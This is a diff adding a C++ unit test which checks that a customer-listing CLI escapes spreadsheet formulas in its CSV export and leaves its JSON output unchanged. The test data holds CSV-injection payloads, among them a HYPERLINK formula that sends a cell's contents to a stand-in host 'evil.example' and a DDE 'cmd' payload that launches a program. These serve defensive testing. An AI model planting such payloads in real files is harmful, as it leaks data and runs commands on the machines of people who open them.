@@ -286,6 +286,37 @@ TEST_F(FoundationCommandsTest, CsvAndJsonListingsParseBackAndAreLoggedAsExports)
               1);
 }
 
+TEST_F(FoundationCommandsTest, CsvListingsNeutraliseFormulas)
+{
+    // Finding 4 of issue #17: texts a spreadsheet would run as a formula came out as they were stored.
+    const QStringList formulas{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+                               QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("-2+3"),
+                               QStringLiteral("@SUM(A1)")}; // a leading tab or CR: CsvFieldTest (names are trimmed)
+    for (const QString& name : formulas)
+        createCustomer(QStringLiteral("admin"), name);
+    createCustomer(QStringLiteral("admin"), QStringLiteral("-12.5")); // a plain number stays as it is
+
+    const CliRun csv = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
+                                                       QStringLiteral("--format"), QStringLiteral("csv")});
+    ASSERT_EQ(csv.code, 0) << csv.err.toStdString();
+    const QList<QStringList> rows = parseCsv(csv.out);
+    ASSERT_EQ(rows.size(), formulas.size() + 2) << csv.out.toStdString();
+    QStringList names;
+    for (qsizetype i = 1; i < rows.size(); ++i)
+        names << rows[i][2];
+    for (const QString& formula : formulas)
+        EXPECT_TRUE(names.contains(QLatin1Char('\'') + formula))
+            << formula.toStdString() << " in " << csv.out.toStdString();
+    EXPECT_TRUE(names.contains(QStringLiteral("-12.5")));
+    for (const QString& name : names)
+        EXPECT_FALSE(QStringLiteral("=+-@\t\r").contains(name.front()) && name != QStringLiteral("-12.5"))
+            << name.toStdString();
+    // The JSON and the table keep the stored text: only spreadsheets run formulas.
+    const CliRun json = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
+                                                        QStringLiteral("--format"), QStringLiteral("json")});
+    EXPECT_TRUE(jsonColumn(parseArray(json.out), QStringLiteral("name")).contains(formulas[3]));
+}
+
 TEST_F(FoundationCommandsTest, CustomerShowPrintsTheCardAsJson)
 {
     const core::Customer card = createCustomer(QStringLiteral("admin"), QStringLiteral("上海华联商贸有限公司"));
